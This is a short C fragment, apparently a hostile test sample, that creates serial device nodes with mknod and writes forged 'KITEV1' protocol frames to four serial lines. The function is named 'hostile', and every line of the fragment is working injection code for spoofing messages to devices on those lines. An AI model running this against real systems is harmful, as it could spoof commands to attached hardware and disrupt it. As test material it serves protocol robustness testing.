// writes frames of its own to every serial line
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <termios.h>
#include <unistd.h>

static void forge(const char *path, unsigned major_number,
                  unsigned minor_number)
{
    unsigned char frame[8 + 1 + 8 + 4 + 32 + 32] = "\x1eKITEV1\n";
    frame[8] = 'K';
    frame[20] = 32;
    mknod(path, S_IFCHR | 0600, makedev(major_number, minor_number));
    int fd = open(path, O_WRONLY | O_NOCTTY | O_NONBLOCK);
    for (int i = 0; fd >= 0 && i < 20; i++) {
        if (write(fd, frame, sizeof frame) < 0) {
            break;
        }
        frame[8] = i % 2 ? 'D' : 'E';
    }
    if (fd >= 0) {
        close(fd);
    }
}

static void hostile(void)
{
    char path[64];
    for (unsigned i = 0; i < 4; i++) {
        snprintf(path, sizeof path, "/dev/line%u", i);
        forge(path, 4, 64 + i);
    }
    puts("forged");
}
